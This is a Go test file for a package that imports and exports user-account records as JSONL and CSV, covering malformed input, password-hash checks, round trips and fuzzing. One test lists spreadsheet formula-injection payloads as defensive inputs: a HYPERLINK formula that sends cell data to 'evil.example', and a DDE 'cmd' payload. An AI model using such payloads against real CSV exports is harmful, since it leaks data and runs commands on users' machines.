package transfer

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

const bcrypt = "$2b$04$abcdefghijklmnopqrstuuWZgYFnZpIqA7uYq8rJzqfG4DKPEPJlW"

// all reads a file; line errors become their texts.
func all(in io.Reader, format string) (rows []Row, bad []string, err error) {
	r, err := NewReader(in, format)
	if err != nil {
		return nil, nil, err
	}
	for {
		row, err := r.Next()
		var wrong *LineError
		switch {
		case errors.Is(err, io.EOF):
			return rows, bad, nil
		case errors.As(err, &wrong):
			bad = append(bad, wrong.Error())
		case err != nil:
			return rows, bad, err
		default:
			rows = append(rows, row)
		}
	}
}

var ada = Row{
	Email: "Ada@example.com", Name: `Ada "the first", Lovelace`, Roles: []string{"admin", "family"}, Password: bcrypt, Verified: true,
	Created: time.Date(2031, 5, 4, 12, 0, 0, 123, time.UTC), Status: "disabled", Language: "en-GB", Timezone: "Europe/London",
}

func at(line int, r Row) Row {
	r.Line = line
	return r
}

func TestReading(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("x", MaxLine)
	for name, c := range map[string]struct {
		format, text string
		rows         []Row
		bad          []string
		file         string
	}{
		"everything": {JSONL, `{"email":"Ada@example.com","name":"Ada \"the first\", Lovelace","roles":["admin","family"],"password":"` + bcrypt +
			`","verified":true,"created":"2031-05-04T14:00:00.000000123+02:00","status":"disabled","language":"en-GB","timezone":"Europe/London"}`, []Row{at(1, ada)}, nil, ""},
		"everything in CSV": {CSV, "email,name,roles,password,verified,created,status,language,timezone\n" +
			`Ada@example.com,"Ada ""the first"", Lovelace","admin,family",` + bcrypt + ",true,2031-05-04T12:00:00.000000123Z,disabled,en-GB,Europe/London\n", []Row{at(2, ada)}, nil, ""},
		"mark, CRLF, blank lines, no end": {JSONL, "\ufeff{\"email\":\"a@example.com\"}\r\n\r\n  \n{\"email\":\"b@example.com\",\"name\":null,\"verified\":1}", []Row{
			{Line: 1, Email: "a@example.com"}, {Line: 4, Email: "b@example.com", Verified: true},
		}, nil, ""},
		"mark, CRLF, a name over two lines": {CSV, "\ufeffVerified, Email ,name\r\nyes,a@example.com,\"A\r\nB\"\r\n\r\n0,b@example.com,\r\n", []Row{
			{Line: 2, Email: "a@example.com", Verified: true, Name: "A\nB"}, {Line: 5, Email: "b@example.com"},
		}, nil, ""},
		"times of databases": {CSV, "email,created\na@example.com,2031-05-04 12:00:00\nb@example.com,2031-05-04 14:00:00.5+02\nc@example.com,2031-05-04\n", []Row{
			{Line: 2, Email: "a@example.com", Created: time.Date(2031, 5, 4, 12, 0, 0, 0, time.UTC)},
			{Line: 3, Email: "b@example.com", Created: time.Date(2031, 5, 4, 12, 0, 0, 5e8, time.UTC)},
			{Line: 4, Email: "c@example.com", Created: time.Date(2031, 5, 4, 0, 0, 0, 0, time.UTC)},
		}, nil, ""},
		"bad objects": {JSONL, strings.Join([]string{
			`{"email":"a@example.com","email":"b@example.com"}`, `{"Email":"a@example.com"}`, `["a@example.com"]`, `{"email":["a@example.com"]}`,
			`{"email":"a@example.com"} {}`, `{"email":"\ud800@example.com"}`, "{\"email\":\"\xff\"}", `{"email":"a\u0000@example.com"}`,
			`{"email":"a@example.com","roles":[1]}`, `{"email":"a@example.com","roles":[null]}`, `{"email":"a@example.com","verified":"perhaps"}`,
			`{"email":"a@example.com","created":5}`, `{"email":"a@example.com","created":"yesterday"}`, `{"email":"a@example.com","created":"1969-12-31"}`,
			`{"` + bcrypt + `":1}`, `{"email":"` + long + `"}`, `{"email":"z@example.com"}`, "{\"email\":\"a\x00\"}", `{"email":{"a":1}}`, `{`,
		}, "\n"), []Row{{Line: 17, Email: "z@example.com"}}, []string{
			"line 1: it has two members email", "line 2: it has a member that is not known: Email; known are " + strings.Join(Fields, ", "),
			"line 3: the line is no JSON object", "line 4: the email is no text", "line 5: the line is no JSON object", "line 6: the email is not UTF-8",
			"line 7: the line is not UTF-8", "line 8: the email holds NUL", "line 9: the roles are no list of texts", "line 10: the roles are no list of texts",
			"line 11: verified is neither true nor false", "line 12: the created is no text", "line 13: created is no time such as 2031-05-04T12:00:00Z",
			"line 14: created lies before 1970 or after 9999",
			"line 15: it has a member that is not known: one that is no plain word; known are " + strings.Join(Fields, ", "),
			"line 16: the line is longer than 16 KiB", "line 18: the line is no JSON object", "line 19: the email is no text", "line 20: the line is no JSON object",
		}, ""},
		"bad cells": {
			CSV, "email,name\na@example.com\nb@example.com,B,b\nc@example.com,\xff\nd@example.com,\x00\ne@example.com," + long + "\nz@example.com,Z\n",
			[]Row{{Line: 7, Email: "z@example.com", Name: "Z"}},
			[]string{
				"line 2: it has another number of fields than the header, which has 2", "line 3: it has another number of fields than the header, which has 2",
				"line 4: the name is not UTF-8", "line 5: the name holds NUL", "line 6: the line is longer than 16 KiB",
			},
			"",
		},
		"nothing":         {JSONL, "", nil, nil, ""},
		"no header":       {CSV, "", nil, nil, "line 1: the file has no header"},
		"no email":        {CSV, "name,roles\n", nil, nil, "line 1: the header does not name email"},
		"twice":           {CSV, "email,name,email\n", nil, nil, "line 1: the header names email twice"},
		"unknown":         {CSV, "email,mail\n", nil, nil, "line 1: the header, which separates names by commas, has at 2 a name that is not known: mail; known are " + strings.Join(Fields, ", ")},
		"a row at once":   {CSV, "a@example.com," + bcrypt + "\n", nil, nil, "line 1: the header, which separates names by commas, has at 1 a name that is not known: one that is no plain word; known are " + strings.Join(Fields, ", ")},
		"a stray quote":   {CSV, "email,name\na@example.com,A\nb@example.com,B\"b\nc@example.com,C\n", []Row{{Line: 2, Email: "a@example.com", Name: "A"}}, nil, "line 3: the quotation marks do not match; what follows cannot be read"},
		"an open quote":   {CSV, "email,name\na@example.com,\"A\n", nil, nil, "line 2: the quotation marks do not match; what follows cannot be read"},
		"UTF-16":          {JSONL, "\xff\xfe{\x00", nil, nil, "line 1: the file is UTF-16: save it as UTF-8"},
		"no such format":  {"xml", "<a/>", nil, nil, "line 1: the format is one of jsonl, csv"},
		"endless quote":   {CSV, "email,name\na@example.com,A\nb@example.com,\"" + strings.Repeat(long+"\n", 8), []Row{{Line: 2, Email: "a@example.com", Name: "A"}}, nil, "line 3: this line or one after it is longer than 16 KiB, or a quotation mark is missing"},
		"endless header":  {CSV, strings.Repeat(long, 8), nil, nil, "line 1: this line or one after it is longer than 16 KiB, or a quotation mark is missing"},
		"only long lines": {JSONL, long + long + "\n" + long + long, nil, []string{"line 1: the line is longer than 16 KiB", "line 2: the line is longer than 16 KiB"}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			rows, bad, err := all(strings.NewReader(c.text), c.format)
			if d := cmp.Diff(c.rows, rows); d != "" {
				t.Error(d)
			}
			if d := cmp.Diff(c.bad, bad); d != "" {
				t.Error(d)
			}
			var file *FileError
			if c.file == "" && err != nil || c.file != "" && (!errors.As(err, &file) || err.Error() != c.file) {
				t.Errorf("%v, not %q", err, c.file)
			}
		})
	}
}

// endless is a file without an end in one quoted field.
type endless struct{ read int }

func (e *endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'x'
	}
	e.read += len(p)
	return len(p), nil
}

func TestAnEndlessLineIsNotKept(t *testing.T) { // counts allocations, so not beside others
	e := &endless{}
	_, _, err := all(io.MultiReader(strings.NewReader("email\n\""), e), CSV)
	if !errors.As(err, new(*FileError)) || e.read > 1<<20 {
		t.Errorf("%v after %d bytes", err, e.read)
	}
	e = &endless{}
	r, err := NewReader(io.LimitReader(e, 64<<20), JSONL)
	if err != nil {
		t.Fatal(err)
	}
	allocs := testing.AllocsPerRun(1, func() { _, _ = r.Next() })
	if allocs > 100 {
		t.Errorf("%f allocations for one long line", allocs)
	}
}

func TestAFileThatBreaksOff(t *testing.T) {
	t.Parallel()
	broken := errors.New("the disk is gone")
	for format, text := range map[string]string{JSONL: "{\"email\":\"a@example.com\"}\n{\"email\":\"b@exam", CSV: "email\na@example.com\nb@exam"} {
		rows, bad, err := all(io.MultiReader(strings.NewReader(text), &failing{broken}), format)
		if len(rows) != 1 || bad != nil || !errors.Is(err, broken) {
			t.Errorf("%s: %v, %v, %v", format, rows, bad, err)
		}
	}
	if _, err := NewReader(&failing{broken}, JSONL); !errors.Is(err, broken) {
		t.Error(err)
	}
}

type failing struct{ err error }

func (f *failing) Read([]byte) (int, error) { return 0, f.err }

func TestAccounts(t *testing.T) {
	t.Parallel()
	for want, r := range map[string]Row{
		"":                                       {Email: "a@example.com", Roles: []string{"x"}, Name: "A", Language: "de", Status: "active", Password: bcrypt},
		"no password":                            {Email: "a@example.com", Password: "!"},
		"the address cannot be used":             {Email: "a@b@example.com"},
		"the name holds a control character":     {Email: "a@example.com", Name: "A\nB"},
		"the role holds a comma":                 {Email: "a@example.com", Roles: []string{"a,b"}},
		"the language is no":                     {Email: "a@example.com", Language: "?"},
		"the timezone is not":                    {Email: "a@example.com", Timezone: "Local"},
		"the status is neither":                  {Email: "a@example.com", Status: "pending"},
		"argon2: more than m=":                   {Email: "a@example.com", Password: "$argon2id$v=19$m=4194304,t=1,p=1$c29tZXNhbHRzb21lc2FsdA$AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8"},
		"a kind of hash that is not known":       {Email: "a@example.com", Password: "correct-horse-battery"},
		"phpass is not supported":                {Email: "a@example.com", Password: "$P$Bxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"},
		"a record above 512":                     {Email: "a@example.com", Password: strings.Repeat("$", 600)},
		"a character that is no visible ASCII":   {Email: "a@example.com", Password: "$2b$\n"},
		"bcrypt: a cost above 14":                {Email: "a@example.com", Password: strings.Replace(bcrypt, "$04$", "$31$", 1)},
		"the address cannot be used: no address": {},
	} {
		in, _, err := at(7, r).Account()
		switch want {
		case "", "no password":
			if err != nil || in.Record.IsZero() != (want != "") {
				t.Errorf("%+v: %v", in, err)
			}
			continue
		case "the address cannot be used: no address":
			want = "the address cannot be used"
		}
		var wrong *LineError
		if !errors.As(err, &wrong) || wrong.Line != 7 || !strings.Contains(wrong.Reason, want) {
			t.Errorf("%q: %v", want, err)
		}
		if r.Password != "" && strings.Contains(err.Error(), r.Password) {
			t.Errorf("the reason tells the record: %v", err)
		}
	}
}

func TestFormatOf(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{"a.jsonl": JSONL, "/x/A.CSV": CSV, "a.ndjson": JSONL, "a.json": "", "-": "", "csv": ""} {
		if got := FormatOf(name); got != want {
			t.Errorf("%s: %q", name, got)
		}
	}
}

func TestWritingIsReadAgain(t *testing.T) {
	t.Parallel()
	rows := []Row{ada, {Email: "b@example.com", Verified: true, Status: "active"}, {Email: "c@xn--bcher-kva.example", Name: "=1+1", Verified: true}}
	for _, format := range []string{JSONL, CSV} {
		for _, passwords := range []bool{true, false} {
			text := written(t, format, passwords, rows)
			if strings.Contains(text, "$2b$") != passwords || !passwords && strings.Contains(text, "password") {
				t.Errorf("%s with passwords %t:\n%s", format, passwords, text)
			}
			got, bad, err := all(strings.NewReader(text), format)
			if err != nil || bad != nil || len(got) != len(rows) {
				t.Fatalf("%v %v\n%s", err, bad, text)
			}
			for i, want := range rows {
				if want.Line = got[i].Line; !passwords {
					want.Password = ""
				}
				if d := cmp.Diff(want, got[i]); d != "" {
					t.Errorf("%s: %s", format, d)
				}
			}
		}
	}
	if _, err := NewWriter(io.Discard, "xml", false); err == nil {
		t.Error("a format that is none")
	}
}

// TestMAIL2_NoNameIsAFormula: people choose their names, and spreadsheets compute a cell that begins like a formula.
func TestMAIL2_NoNameIsAFormula(t *testing.T) {
	t.Parallel()
	for _, name := range []string{`=HYPERLINK("https://evil.example/?"&A1,"Ada")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "'=1+1", "''-1", "＝1+1", "'", "'Ada'", "Ada = 1", ""} {
		row := Row{Email: "ada@example.com", Name: name, Verified: true}
		text := written(t, CSV, false, []Row{row})
		got, bad, err := all(strings.NewReader(text), CSV)
		if err != nil || bad != nil || len(got) != 1 || got[0].Name != name {
			t.Errorf("%q came back as %v (%v, %v)", name, got, bad, err)
		}
		cell := strings.TrimLeft(strings.Split(text, ",")[8], `"`)
		if first, _ := utf8.DecodeRuneInString(cell); strings.ContainsRune("=+-@＝＋－＠", first) {
			t.Errorf("%q is a formula to a spreadsheet:\n%s", name, text)
		}
	}
}

func written(t *testing.T, format string, passwords bool, rows []Row) string {
	t.Helper()
	var b bytes.Buffer
	w, err := NewWriter(&b, format, passwords)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// fuzz reads anything, and reads again what it writes of that.
func fuzz(t *testing.T, format, text string) {
	rows, bad, err := all(strings.NewReader(text), format)
	var wrong *FileError
	if err != nil && !errors.As(err, &wrong) {
		t.Fatalf("%T %v", err, err)
	}
	if len(rows)+len(bad) > len(text)+1 {
		t.Fatalf("%d accounts of %d bytes", len(rows)+len(bad), len(text))
	}
	last := 0
	for _, r := range rows {
		if r.Line <= last {
			t.Fatalf("line %d after %d", r.Line, last)
		}
		last = r.Line
	}
	var good []Row
	for _, r := range rows {
		if _, _, err := r.Account(); err == nil {
			r.Line = 0
			good = append(good, r)
		}
	}
	for _, to := range []string{JSONL, CSV} {
		again, bad, err := all(strings.NewReader(written(t, to, true, good)), to)
		if err != nil || bad != nil {
			t.Fatalf("%v %v", err, bad)
		}
		for i := range again {
			again[i].Line = 0
		}
		same := func(a, b Row) bool {
			return cmp.Equal(a, b, cmp.Comparer(func(a, b []string) bool { return slices.Equal(a, b) }))
		}
		if !slices.EqualFunc(good, again, same) {
			t.Fatal(fmt.Sprint(cmp.Diff(good, again)))
		}
	}
}

func FuzzJSONLines(f *testing.F) {
	f.Add("{\"email\":\"a@example.com\",\"roles\":[\"x\"],\"verified\":true,\"created\":\"2031-05-04\"}\n")
	f.Add("\ufeff{\"email\":\"a@example.com\",\"password\":\"" + bcrypt + "\"}\r\n{\"email\":\"\\ud800\"}\n[")
	f.Fuzz(func(t *testing.T, text string) { fuzz(t, JSONL, text) })
}

func FuzzCSV(f *testing.F) {
	f.Add("email,name,roles,verified\na@example.com,\"A, \"\"B\"\"\",\"x,y\",t\n")
	f.Add("\ufeffEMAIL,password\r\na@example.com," + bcrypt + "\r\n\"b\n")
	f.Add("email,created\na@example.com,2031-05-04 12:00:00+02\n")
	f.Fuzz(func(t *testing.T, text string) { fuzz(t, CSV, text) })
}
